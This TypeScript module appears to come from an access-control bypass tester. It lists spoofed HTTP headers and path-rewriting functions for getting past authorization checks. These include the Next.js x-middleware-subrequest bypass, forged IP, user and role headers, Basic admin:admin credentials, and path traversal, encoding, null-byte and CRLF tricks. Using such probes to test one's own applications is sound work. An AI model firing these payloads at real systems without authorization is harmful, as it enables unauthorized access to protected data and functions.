/** Headers and spellings of paths with which walls of other products were passed by. */

const nested = (word: string) => Array(5).fill(word).join(':')

/** Each is sent alone, beside what the caller sends anyway. */
export const headers: readonly Record<string, string>[] = [
  { 'x-middleware-subrequest': nested('middleware') },
  { 'x-middleware-subrequest': nested('src/middleware') },
  { 'x-middleware-subrequest': nested('proxy') },
  { 'x-middleware-subrequest-id': '1', 'x-middleware-invoke': '1', 'x-middleware-next': '1' },
  { 'x-middleware-prefetch': '1', 'x-nextjs-data': '1', purpose: 'prefetch' },
  { rsc: '1', 'next-router-prefetch': '1' },
  { 'next-action': '7f000000000000000000000000000000000000000000' },
  { 'x-original-url': '/api/health' },
  { 'x-rewrite-url': '/api/health' },
  { 'x-override-url': '/api/health', 'x-original-uri': '/api/health', 'x-envoy-original-path': '/api/health' },
  { 'x-forwarded-uri': '/api/health', 'x-forwarded-path': '/api/health', 'x-forwarded-prefix': '/api/health' },
  { 'x-forwarded-for': '127.0.0.1' },
  { 'x-forwarded-for': '127.0.0.1, 127.0.0.1' },
  { 'x-forwarded-host': 'localhost', 'x-forwarded-server': 'localhost', 'x-host': 'localhost' },
  { 'x-forwarded-proto': 'https', 'x-forwarded-ssl': 'on', 'front-end-https': 'on' },
  { forwarded: 'for=127.0.0.1;host=localhost;proto=https' },
  {
    'x-real-ip': '127.0.0.1',
    'x-client-ip': '127.0.0.1',
    'true-client-ip': '127.0.0.1',
    'x-custom-ip-authorization': '127.0.0.1',
  },
  { 'x-http-method-override': 'GET' },
  { 'x-http-method-override': 'DELETE', 'x-http-method': 'DELETE', 'x-method-override': 'DELETE' },
  { 'x-forwarded-user': 'owner', 'x-remote-user': 'owner', 'remote-user': 'owner', 'x-authenticated-user': 'owner' },
  { 'x-user-id': '1', 'x-account-id': '1', 'x-tenant-id': '1', 'x-role': 'owner', 'x-admin': 'true' },
  { 'x-lingxi-address': '127.0.0.1', 'x-lingxi-account': '1', 'x-lingxi-role': 'owner' },
  { authorization: 'Basic YWRtaW46YWRtaW4=' },
  { authorization: 'Bearer null' },
  { authorization: 'Bearer ' },
  { referer: 'http://127.0.0.1/api/v1/me', 'x-requested-with': 'XMLHttpRequest' },
  { connection: 'close, x-forwarded-for, cookie, authorization' },
  { 'content-type': 'application/x-www-form-urlencoded' },
  { 'x-api-key': 'owner', 'x-csrf-token': 'none', 'x-debug': '1', 'x-internal': '1' },
]

const lastSlash = (path: string, by: string) => path.replace(/\/([^/]*)$/, `${by}$1`)
/** The path with something in front of its n-th part. */
const inside = (path: string, at: number, more: string) => path.split('/').toSpliced(at, 0, more).join('/')
const coded = (text: string) =>
  [...text].map((sign) => (/[a-z]/.test(sign) ? `%${sign.charCodeAt(0).toString(16)}` : sign)).join('')

export const forms: Readonly<Record<string, (path: string) => string>> = {
  'two slashes in front': (path) => `/${path}`,
  'three slashes in front': (path) => `//${path}`,
  'two slashes inside': (path) => inside(path, 3, ''),
  'two slashes before the last': (path) => lastSlash(path, '//'),
  'a slash behind': (path) => `${path}/`,
  'two slashes behind': (path) => `${path}//`,
  'a dot inside': (path) => inside(path, 3, '.'),
  'a dot behind': (path) => `${path}/.`,
  'out and in again': (path) => inside(path, 3, 'x/..'),
  'out of what is open': (path) => `/api/health/..${path.slice(4)}`,
  'out of what is open, coded': (path) => `/api/health/%2e%2e${path.slice(4)}`,
  'out of what is open, coded slash': (path) => `/api/health%2f..${path.slice(4)}`,
  'out of what is open, with a parameter': (path) => `/api/health/..;${path.slice(4)}`,
  'out of files': (path) => `/widget/..${path}`,
  'out of the build': (path) => `/_next/static/../..${path}`,
  'as data of a page': (path) => `/_next/data/build${path}.json`,
  'a coded slash': (path) => lastSlash(path, '%2f'),
  'a coded slash, capital': (path) => lastSlash(path, '%2F'),
  'a slash coded twice': (path) => lastSlash(path, '%252f'),
  'an overlong slash': (path) => lastSlash(path, '%c0%af'),
  'a backslash': (path) => lastSlash(path, '\\'),
  'a coded backslash': (path) => lastSlash(path, '%5c'),
  capitals: (path) => path.toUpperCase(),
  'a capital in the last part': (path) =>
    path.replace(/([^/])([^/]*)$/, (_whole, first: string, rest: string) => first.toUpperCase() + rest),
  'letters coded': (path) => path.split('/').map(coded).join('/'),
  'the account coded': (path) =>
    path.replace(/(\/api\/v1\/)([^/]+)/, (_whole, before: string, slug: string) => before + coded(slug)),
  'letters coded twice': (path) =>
    path
      .split('/')
      .map((part) => coded(part).replaceAll('%', '%25'))
      .join('/'),
  'a kind of file': (path) => `${path}.json`,
  'a picture': (path) => `${path}/a.png`,
  'a parameter behind': (path) => `${path};x=1`,
  'a parameter inside': (path) => inside(path, 3, ';x=1'),
  'a session behind': (path) => `${path};jsessionid=1`,
  'a zero byte': (path) => `${path}%00`,
  'a zero byte and a kind': (path) => `${path}%00.png`,
  'a space behind': (path) => `${path}%20`,
  'a tab behind': (path) => `${path}%09`,
  'a line behind': (path) => `${path}%0d%0a`,
  'a fragment': (path) => `${path}#/api/health`,
  'a coded question mark': (path) => `${path}%3f`,
  'a question': (path) => `${path}?_method=GET&account=shop&role=owner&who=public`,
  'a whole address': (path) => `http://127.0.0.1${path}`,
  'a host as a path': (path) => `//127.0.0.1${path}`,
  'wide slashes': (path) => path.replaceAll('/', '%ef%bc%8f'),
}
